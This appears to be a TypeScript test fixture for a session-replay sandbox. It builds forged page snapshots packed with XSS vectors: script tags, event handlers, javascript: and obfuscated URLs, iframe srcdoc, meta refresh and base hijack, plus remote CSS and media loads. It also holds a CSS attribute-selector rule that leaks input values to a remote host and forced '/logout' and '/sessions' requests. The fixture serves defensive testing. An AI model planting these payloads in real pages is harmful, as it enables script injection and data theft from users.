/** What a forged page holds: elements that load, run, or lead away, as snapshots and mutations name them. */

export interface Forged {
  tagName: string;
  attributes?: Record<string, unknown>;
  text?: string;
  isSVG?: boolean;
  children?: Forged[];
}

export const RUN = 'window.top.pwned.push(1);parent.parent.pwned&&parent.parent.pwned.push(1)';

export function heads(remote: string): Forged[] {
  return [
    { tagName: 'base', attributes: { href: `${remote}/base/` } },
    {
      tagName: 'meta',
      attributes: { 'http-equiv': 'refresh', content: `0;url=${remote}/refresh` },
    },
    { tagName: 'meta', attributes: { name: 'referrer', content: 'unsafe-url' } },
    ...[
      'stylesheet',
      'preload',
      'prefetch',
      'dns-prefetch',
      'preconnect',
      'modulepreload',
      'icon',
      'manifest',
    ].map((rel) => ({
      tagName: 'link',
      attributes: { rel, as: 'image', href: `${remote}/${rel}` },
    })),
    {
      tagName: 'style',
      text: `@import url(${remote}/import); body{background:url('${remote}/stylebg')} @font-face{font-family:x;src:url(${remote}/face)}`,
    },
    {
      tagName: 'style',
      attributes: {
        _cssText: `p{background:url(${remote}/csstext)} input[value^="a"]{background:url(${remote}/leak)}`,
      },
    },
    { tagName: 'script', text: RUN },
    { tagName: 'script', attributes: { src: `${remote}/script.js` } },
    { tagName: 'SCRIPT', text: RUN },
  ];
}

export function elements(remote: string): Forged[] {
  return [
    {
      tagName: 'img',
      attributes: {
        src: `${remote}/img`,
        srcset: `${remote}/img1 1x, ${remote}/img2 2x`,
        onerror: RUN,
      },
    },
    { tagName: 'img', attributes: { src: '/logout?stolen' } },
    { tagName: 'img', attributes: { src: 'x', ONERROR: RUN } },
    {
      tagName: 'img',
      attributes: { rr_dataURL: `${remote}/dataurl`, 'xlink:href': `${remote}/xlink` },
    },
    { tagName: 'IMG', attributes: { SRC: `${remote}/upper` } },
    {
      tagName: 'picture',
      children: [
        { tagName: 'source', attributes: { srcset: `${remote}/source` } },
        { tagName: 'img', attributes: { src: `${remote}/pic` } },
      ],
    },
    { tagName: 'iframe', attributes: { src: `${remote}/iframe` } },
    { tagName: 'iframe', attributes: { src: `javascript:${RUN}` } },
    {
      tagName: 'iframe',
      attributes: { srcdoc: `<script>${RUN}</script><img src="${remote}/srcdoc">` },
    },
    { tagName: 'iframe', attributes: { src: '/sessions/stolen' } },
    { tagName: 'object', attributes: { data: `${remote}/object` } },
    { tagName: 'embed', attributes: { src: `${remote}/embed` } },
    {
      tagName: 'video',
      attributes: {
        src: `${remote}/video`,
        poster: `${remote}/poster`,
        autoplay: '',
        rr_mediaState: 'played',
      },
    },
    {
      tagName: 'audio',
      attributes: { src: `${remote}/audio`, autoplay: '', rr_mediaState: 'played' },
    },
    { tagName: 'canvas', attributes: { rr_dataURL: `${remote}/canvas` } },
    {
      tagName: 'input',
      attributes: { type: 'image', src: `${remote}/input`, formaction: `${remote}/formaction` },
    },
    {
      tagName: 'input',
      attributes: { type: 'PASSWORD', name: 'password', value: 'x', onfocus: RUN, autofocus: '' },
    },
    {
      tagName: 'form',
      attributes: { action: `${remote}/form`, onsubmit: RUN },
      children: [{ tagName: 'button', attributes: { type: 'submit' } }],
    },
    {
      tagName: 'a',
      attributes: { href: `java\tscript:${RUN}`, ping: `${remote}/ping` },
      text: 'a',
    },
    {
      tagName: 'div',
      attributes: {
        style: `background:url(${remote}/style);width:9px;height:9px`,
        onmouseover: RUN,
      },
      text: 'd',
    },
    {
      tagName: 'div',
      attributes: { style: `background:\\75 rl(${remote}/escape);width:9px;height:9px` },
      text: 'e',
    },
    { tagName: 'table', attributes: { background: `${remote}/table` } },
    {
      tagName: 'svg',
      isSVG: true,
      attributes: { onload: RUN },
      children: [
        {
          tagName: 'image',
          isSVG: true,
          attributes: {
            href: `${remote}/svgimage`,
            'xlink:href': `${remote}/svgxlink`,
            width: '9',
            height: '9',
          },
        },
        { tagName: 'use', isSVG: true, attributes: { href: `${remote}/use#x` } },
        { tagName: 'script', isSVG: true, text: RUN },
        {
          tagName: 'rect',
          isSVG: true,
          attributes: { fill: `url(${remote}/fill#x)`, width: '9', height: '9' },
        },
        {
          tagName: 'animate',
          isSVG: true,
          attributes: { onbegin: RUN, attributeName: 'x', dur: '1s' },
        },
      ],
    },
  ];
}

export function hostileAttributes(remote: string): object[] {
  return [
    {
      id: 50,
      attributes: { src: `${remote}/late-src`, onerror: RUN, srcset: `${remote}/late-srcset` },
    },
    {
      id: 51,
      attributes: { href: `javascript:${RUN}`, onclick: RUN, ping: `${remote}/late-ping` },
    },
    { id: 52, attributes: { src: `${remote}/late-iframe`, srcdoc: `<script>${RUN}</script>` } },
    {
      id: 53,
      attributes: {
        style: { 'background-image': `url(${remote}/late-style)`, color: ['red', 'important'] },
      },
    },
  ];
}
